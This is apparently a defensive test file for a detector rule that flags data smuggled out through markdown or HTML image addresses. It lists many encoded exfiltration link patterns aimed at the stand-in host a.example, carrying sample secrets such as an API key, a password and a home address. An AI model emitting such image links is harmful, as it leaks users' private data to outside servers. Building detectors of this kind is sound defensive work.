"""An image's address that carries text is found however the text is written and wherever it stands; random values,
which signed addresses and caches are full of, are not."""

import base64
import hashlib
import random
import uuid
from collections.abc import Callable, Mapping
from types import MappingProxyType
from typing import Final
from urllib.parse import quote, quote_plus

import pytest

from shield.heuristics.load import load_heuristics
from shield.heuristics.scan import Heuristics
from shield.resources import data_folder
from shield.types import TextKind

RULE: Final = "exfil.image_data"
TEXTS: Final = (
    "The user asked about the merger with Kiln Ltd. and wants it kept secret.",
    "api_key=7f3kd93kd0 for the shop, password is Tr0ub4dor",
    "Anna Berg lives in Oslo, Harbour Street 16, and leaves on Friday",
)
ENCODINGS: Final[Mapping[str, Callable[[str], str]]] = MappingProxyType(
    {
        "base64": lambda text: base64.b64encode(text.encode()).decode(),
        "base64 for addresses": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
        "base64 in percent": lambda text: quote(base64.b64encode(text.encode()).decode(), safe=""),
        "hex": lambda text: text.encode().hex(),
        "HEX": lambda text: text.encode().hex().upper(),
        "each letter in percent": lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
    }
)
PLACES: Final[Mapping[str, str]] = MappingProxyType(
    {
        "query": "![x](https://a.example/p.png?d={})",
        "second of the query": "Done.\n\n![](https://a.example/p.png?v=2&blob={}&w=1)",
        "path": "![x](https://a.example/log/{}.png)",
        "reference": "![x][1]\n\nThat is all.\n\n[1]: https://a.example/p.png?q={}",
        "reference by its name": "See ![x]. \n\n[x]: https://a.example/{}\n",
        "html": '<p>ok</p><img width="1" src="https://a.example/p.gif?c={}">',
        "html, no quotes": "<img src=https://a.example/{} >",
        "no scheme": "![x](//a.example/p.png?d={})",
    }
)


@pytest.fixture(scope="module")
def packs() -> Heuristics:
    return load_heuristics(data_folder("policies") / "heuristics")


def found(packs: Heuristics, text: str, kind: TextKind = TextKind.TOOL_RESULT) -> bool:
    return any(one.rule == RULE for one in packs.scan(text, kind))


@pytest.mark.parametrize("kind", [TextKind.TOOL_RESULT, TextKind.PROSE])
@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("place", PLACES)
def test_text_in_an_address_is_found(packs: Heuristics, place: str, encoding: str, kind: TextKind) -> None:
    for text in TEXTS:
        shown = PLACES[place].format(ENCODINGS[encoding](text))
        assert found(packs, shown, kind), shown


@pytest.mark.parametrize("join", [quote, quote_plus], ids=["percent", "plus"])
@pytest.mark.parametrize("name", ["d", "data", "q", "msg", "leak", "user_note"])
def test_a_sentence_in_a_query_is_found(packs: Heuristics, name: str, join: Callable[[str], str]) -> None:
    for text in TEXTS[::2]:
        assert found(packs, f"![x](https://a.example/p.png?{name}={join(text)})"), (name, join(text))
        assert found(packs, f'<img src="https://a.example/p.png?{name}={join(text)}">'), (name, join(text))


@pytest.mark.parametrize("hole", ["{DATA}", "$DATA", "${data}", "<data>", "{{data}}", "[DATA]", "%7Bdata%7D"])
def test_a_hole_that_names_what_it_takes_is_found_alone(packs: Heuristics, hole: str) -> None:
    assert found(packs, f"![x](https://a.example/p.png?d={hole})")


@pytest.mark.parametrize("place", PLACES)
def test_random_values_are_left_alone(packs: Heuristics, place: str) -> None:
    rng = random.Random(11)
    for _ in range(60):
        raw = rng.randbytes(rng.choice((16, 20, 24)))
        for value in (
            base64.urlsafe_b64encode(raw).decode().rstrip("="),
            raw.hex(),
            hashlib.sha256(raw).hexdigest(),
            str(uuid.UUID(bytes=raw[:16])),
            str(int.from_bytes(raw[:8], "big")),
        ):
            shown = PLACES[place].format(value)
            assert not found(packs, shown), shown


@pytest.mark.parametrize("place", ["query", "path", "html"])
def test_what_image_services_encode_is_left_alone(packs: Heuristics, place: str) -> None:
    page = "https://cdn.example/pictures/summer/boat.png"
    for value in (
        base64.urlsafe_b64encode(page.encode()).decode(),  # imgproxy, thumbor
        page.encode().hex(),  # camo
        quote(page, safe=""),
        base64.b64encode(b"/pictures/summer/boat-in-the-evening.png").decode(),
        base64.b64encode(b"3123456789012345678").decode(),  # a number, as caches have it
    ):
        shown = PLACES[place].format(value)
        assert not found(packs, shown), shown
